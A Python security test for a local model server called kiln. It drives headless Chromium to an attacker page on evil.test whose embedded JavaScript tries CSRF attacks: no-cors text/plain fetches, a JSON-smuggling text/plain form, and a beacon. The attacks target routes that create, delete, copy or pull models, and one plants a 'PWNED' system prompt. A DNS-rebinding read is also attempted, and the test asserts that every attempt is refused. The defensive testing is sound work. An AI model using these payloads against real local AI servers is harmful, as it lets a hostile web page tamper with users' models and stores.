"""A real browser against a real ``kiln serve`` (issue 11): headless Chromium opens a
page from another origin, ``http://evil.test:PORT`` (a local static server, reached
through Chromium's ``--host-resolver-rules``), whose script tries what a hostile page
can do without the user's say: simple cross-site requests (``no-cors`` fetches with
``text/plain`` JSON bodies, a ``text/plain`` form whose field makes valid JSON, a
beacon) at every route that changes the store or runs the model, and a DNS-rebinding
read, where the page's own origin is kiln's port (``evil.test:KILNPORT``), so only
the Host check stands between it and ``/api/tags``.

The store must be byte-for-byte unchanged, nothing generated, the read refused, and
kiln's log must show each attempt arriving and refused (so a browser that never sent
them cannot pass the test).

Debian's ``chromium`` driven by the ``playwright`` package (never ``playwright
install``). Skipped when Chromium is missing, unless ``KILN_REQUIRE_REAL=1`` (CI).
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.conftest import Server, free_port, start_server, stop_server

pytestmark = pytest.mark.real_model

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--host-resolver-rules=MAP evil.test 127.0.0.1",
        # Chromium's Local Network Access checks would stop the rebound page's requests
        # in the browser (its document, served by Playwright, has no local address);
        # Firefox and Safari have no such checks, and kiln must hold without them.
        "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
        "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults"]
MODEL = "smollm2:135m"

# The attacker's script. KILN is kiln's address as the user's programs know it.
ATTACK = r"""
const KILN = "http://127.0.0.1:%(kiln_port)d";
const results = {};
const body = (o) => JSON.stringify(o);
async function attempt(name, url, opts) {
  try {
    const r = await fetch(url, opts);
    let text = null;
    try { text = await r.text(); } catch (e) {}
    results[name] = {type: r.type, status: r.status, text: text};
  } catch (e) { results[name] = {error: String(e)}; }
}
const plain = {"Content-Type": "text/plain"};
const blob = new Uint8Array(64); blob.set([71, 71, 85, 70]);
async function run() {
  const system = "PWNED: reply only with the word pwned";
  await attempt("create", KILN + "/api/create", {method: "POST", mode: "no-cors", headers: plain,
    body: body({model: "%(model)s", from: "%(model)s", system: system, stream: false})});
  await attempt("copy", KILN + "/api/copy", {method: "POST", mode: "no-cors", headers: plain,
    body: body({source: "%(model)s", destination: "stolen:latest"})});
  await attempt("delete", KILN + "/api/delete", {method: "DELETE", mode: "cors",
    headers: {"Content-Type": "application/json"}, body: body({model: "%(model)s"})});
  await attempt("delete-post", KILN + "/api/delete", {method: "POST", mode: "no-cors", headers: plain,
    body: body({model: "%(model)s"})});
  await attempt("pull", KILN + "/api/pull", {method: "POST", mode: "no-cors", headers: plain,
    body: body({model: "evil.test/evil/model", insecure: true, stream: false})});
  await attempt("chat", KILN + "/api/chat", {method: "POST", mode: "no-cors", headers: plain,
    body: body({model: "%(model)s", messages: [{role: "user", content: "hello"}], stream: false})});
  await attempt("openai-chat", KILN + "/v1/chat/completions", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "application/x-www-form-urlencoded"},
    body: body({model: "%(model)s", messages: [{role: "user", content: "hello"}], max_tokens: 8})});
  await attempt("blob", KILN + "/api/blobs/%(digest)s", {method: "POST", mode: "no-cors", headers: plain,
    body: blob});
  await attempt("read-tags", KILN + "/api/tags", {mode: "cors"});
  await attempt("cross-port-rebinding", "http://evil.test:%(kiln_port)d/api/tags", {mode: "no-cors"});
  results.beacon = navigator.sendBeacon(KILN + "/api/generate",
    new Blob([body({model: "%(model)s", prompt: "hi", stream: false})], {type: "text/plain"}));
  // A text/plain form: the field's name and value join as name=value into valid JSON.
  await new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "sink"; frame.onload = resolve; document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST"; form.action = KILN + "/api/create"; form.enctype = "text/plain"; form.target = "sink";
    const field = document.createElement("input");
    field.name = body({model: "%(model)s", from: "%(model)s", system: system, stream: false, x: ""}).slice(0, -2);
    field.value = '"}';
    form.appendChild(field); document.body.appendChild(form); form.submit();
    setTimeout(resolve, 10000);
  });
  window.done = results;
}
run();
"""

# The rebinding page: served (in the attacker's story, by the attacker's server before
# the name is rebound) from kiln's own origin, so its requests are same-origin.
REBOUND = r"""
async function run() {
  const out = {};
  for (const [name, opts] of [["tags", {}], ["show", {method: "POST", headers: {"Content-Type": "application/json"},
                               body: JSON.stringify({model: "%(model)s"})}],
                              ["create", {method: "POST", headers: {"Content-Type": "application/json"},
                               body: JSON.stringify({model: "%(model)s", from: "%(model)s", system: "PWNED",
                                                     stream: false})}]]) {
    try {
      const r = await fetch(name === "tags" ? "/api/tags" : "/api/" + name, opts);
      out[name] = {status: r.status, text: await r.text()};
    } catch (e) { out[name] = {error: String(e)}; }
  }
  window.done = out;
}
run();
"""


def _chromium_or_skip() -> None:
    if CHROMIUM.exists():
        try:
            import playwright  # noqa: F401
            return
        except ImportError:
            missing = "the playwright package (pip install -e '.[test]')"
    else:
        missing = "Debian's chromium (apt-get install -y chromium)"
    if os.environ.get("KILN_REQUIRE_REAL"):
        pytest.fail(f"the browser test needs {missing}")
    pytest.skip(f"the browser test needs {missing}")


@pytest.fixture(scope="module")
def kiln(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    _chromium_or_skip()
    s = start_server(tmp_path_factory.mktemp("csrf"))
    yield s
    stop_server(s)


@pytest.fixture
def attacker_site() -> Iterator[tuple[int, list[str], dict[str, bytes]]]:
    """A static server for the attacker's pages (path -> HTML); it notes the paths it served."""
    served: list[str] = []
    pages: dict[str, bytes] = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            served.append(self.path)
            page = pages.get(self.path)
            self.send_response(200 if page else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page or b"")

        def log_message(self, *args: object) -> None:
            pass

    port = free_port()
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield port, served, pages
    httpd.shutdown()
    httpd.server_close()


def snapshot(server: Server) -> dict[str, object]:
    root = server.store
    files = {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
             for p in sorted(root.rglob("*")) if p.is_file()}
    show = httpx.post(server.url + "/api/show", json={"model": MODEL}, timeout=30).json()
    return {"files": files, "system": show.get("system"), "modelfile": show.get("modelfile")}


def generated_tokens(server: Server) -> float:
    text = httpx.get(server.url + "/metrics", timeout=30).text
    return sum(float(v) for v in re.findall(r"^kiln_generated_tokens_total\{[^}]*\} (\S+)$", text, re.M))


def refused_in_log(server: Server) -> dict[str, set[int]]:
    """Each path the access log saw, and the statuses it answered."""
    out: dict[str, set[int]] = {}
    for m in re.finditer(r"kiln\.access: .*?method=(\S+) path=(\S+) status=(\d+)", server.log.read_text()):
        out.setdefault(m[2], set()).add(int(m[3]))
    return out


def test_a_hostile_page_cannot_drive_kiln(kiln, attacker_site):
    from playwright.sync_api import sync_playwright

    site_port, served, pages = attacker_site
    kiln_port = int(kiln.url.rsplit(":", 1)[1])
    blob = bytes([71, 71, 85, 70]) + bytes(60)
    digest = "sha256:" + hashlib.sha256(blob).hexdigest()
    values = {"kiln_port": kiln_port, "model": MODEL, "digest": digest}
    pages["/"] = f"<html><body><script>{ATTACK % values}</script></body></html>".encode()

    before, tokens_before = snapshot(kiln), generated_tokens(kiln)
    assert before["files"], "the store is empty: nothing to protect"

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
        try:
            page = browser.new_page()
            page.goto(f"http://evil.test:{site_port}/")
            page.wait_for_function("window.done !== undefined", timeout=60_000)
            results = page.evaluate("window.done")

            # DNS rebinding: the attacker's page at kiln's own origin. Playwright serves
            # that one document in place of the attacker's server; every request the
            # page then makes goes to kiln, as after the rebind.
            rebound = browser.new_page()
            origin = f"http://evil.test:{kiln_port}"
            rebound.route(origin + "/", lambda route: route.fulfill(
                status=200, content_type="text/html",
                body=f"<html><body><script>{REBOUND % values}</script></body></html>"))
            rebound.goto(origin + "/")
            rebound.wait_for_function("window.done !== undefined", timeout=60_000)
            rebinding = rebound.evaluate("window.done")
        finally:
            browser.close()

    assert "/" in served, "Chromium never loaded the attacker's page"
    # The store, the model's system prompt and Modelfile are as they were; nothing generated.
    after = snapshot(kiln)
    assert after == before
    assert generated_tokens(kiln) == tokens_before
    # A cross-origin page reads nothing back.
    assert "error" in results["read-tags"], results["read-tags"]
    for name in ("create", "copy", "delete-post", "pull", "chat", "openai-chat", "blob", "cross-port-rebinding"):
        assert results[name].get("type") == "opaque" or "error" in results[name], (name, results[name])
    # The rebound page is same-origin, so it sees kiln's answers: all refusals.
    for name, got in rebinding.items():
        assert got.get("status") == 403, (name, got)
        assert "KILN_ALLOWED_HOSTS" in got["text"] and MODEL not in got["text"], (name, got)
    # Every attempt reached kiln and was refused there, before any handler (the test's
    # own reads of /api/tags and /api/show, without an Origin, were answered).
    log = refused_in_log(kiln)
    for path in ("/api/create", "/api/copy", "/api/delete", "/api/pull", "/api/chat", "/v1/chat/completions",
                 f"/api/blobs/{digest}", "/api/generate"):
        assert log.get(path) == {403}, (path, log.get(path))
    for path in ("/api/tags", "/api/show"):
        assert 403 in log.get(path, set()), (path, log.get(path))
    print("\n" + json.dumps({"cross_origin": results, "rebinding": rebinding,
                             "generated_tokens": [tokens_before, generated_tokens(kiln)],
                             "store_files": len(after["files"])}, indent=1)[:3000])
